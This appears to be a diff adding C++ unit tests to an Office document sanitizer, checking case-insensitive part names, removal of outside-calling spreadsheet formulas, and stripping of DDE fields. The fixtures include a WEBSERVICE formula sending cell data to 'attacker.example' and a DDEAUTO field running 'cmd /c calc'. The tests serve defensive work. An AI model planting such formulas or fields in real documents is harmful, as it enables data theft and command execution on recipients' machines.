@@ -716,5 +716,48 @@ TEST(CdrOoxmlFields, NestedFieldsAndHyperlinkTargetsAreJudged) {
   EXPECT_EQ(sanitize(r.output, p.name, {}).verdict, Verdict::clean);
 }
 
+// Part names compare without case (Office opens "DocProps/Core.xml" for docProps/core.xml); a part
+// reached that way is kept, and what comes out is clean on a second pass.
+TEST(CdrOoxmlPackage, PartNamesCompareWithoutCase) {
+  Package p = word("<w:p><w:r><w:t>x</w:t></w:r></w:p>");
+  p.part("word/document.xml") = std::string(R"(<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" mc:Ignorable="w14"><w:body><w:p w14:paraId="1"/></w:body></w:document>)");
+  p.rels[""].push_back({"rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "DocProps/Core.XML"});
+  p.part("docProps/core.xml") = R"(<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:t="http://purl.org/dc/terms/" xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><dc:title>見積</dc:title><t:created i:type="t:W3CDTF">2026-01-01T00:00:00Z</t:created></cp:coreProperties>)";
+  p.overrides.emplace_back("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml");
+  CdrResult r = sanitize(p.zip(), p.name, {});
+  ASSERT_EQ(r.verdict, Verdict::clean) << r.message << (r.findings.empty() ? "" : " " + r.findings[0].kind + " " + r.findings[0].location);
+  auto parts = unzip(r.output);
+  ASSERT_TRUE(parts.count("docProps/core.xml"));
+  EXPECT_NE(parts["docProps/core.xml"].find(R"(xsi:type="dcterms:W3CDTF")"), std::string::npos) << "a QName value follows the prefix rename";
+  EXPECT_NE(parts["word/document.xml"].find("xmlns:mc="), std::string::npos) << "mc:Ignorable's own namespace is declared";
+  expect_safe_package(r.output, "docx");
+  CdrResult again = sanitize(r.output, p.name, {});
+  EXPECT_EQ(again.verdict, Verdict::clean) << (again.findings.empty() ? again.message : again.findings[0].kind + " " + again.findings[0].location);
+}
+
+// Formulas that reach outside the workbook go (their cached values stay); ordinary ones stay.
+TEST(CdrOoxmlPackage, FormulasThatCallOutsideGo) {
+  Package p = sheet(R"(<row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("http://attacker.example/?"&amp;B1)</f><v>1</v></c><c r="B1"><f>rtd ("srv.exe",,"topic")</f><v>2</v></c>)"
+                    R"(<c r="C1"><f>SUM(A1:B1)</f><v>3</v></c><c r="D1"><f>CALLBACKS(1)+MY.RTD(2)</f><v>4</v></c></row>)");
+  CdrResult r = sanitize(p.zip(), p.name, {});
+  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
+  EXPECT_TRUE(kinds(r).count("external_formula"));
+  const std::string x = unzip(r.output)["xl/worksheets/sheet1.xml"];
+  EXPECT_EQ(x.find("WEBSERVICE"), std::string::npos);
+  EXPECT_EQ(x.find("rtd ("), std::string::npos);
+  EXPECT_NE(x.find("SUM(A1:B1)"), std::string::npos);
+  EXPECT_NE(x.find("CALLBACKS(1)+MY.RTD(2)"), std::string::npos) << "names that only contain a function's name stay";
+  EXPECT_NE(x.find("<v>1</v>"), std::string::npos) << "the cached value stays";
+}
+
+// A field marker spelled in another case is still a field marker.
+TEST(CdrOoxmlFields, FieldMarkersAreMatchedWithoutCase) {
+  Package p = word(R"(<w:p><w:r><w:fldChar w:fldCharType="Begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="END"/></w:r></w:p>)");
+  CdrResult r = sanitize(p.zip(), p.name, {});
+  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
+  EXPECT_TRUE(kinds(r).count("dde_field"));
+  EXPECT_EQ(unzip(r.output)["word/document.xml"].find("DDEAUTO"), std::string::npos);
+}
+
 }  // namespace
 }  // namespace sanso::cdr
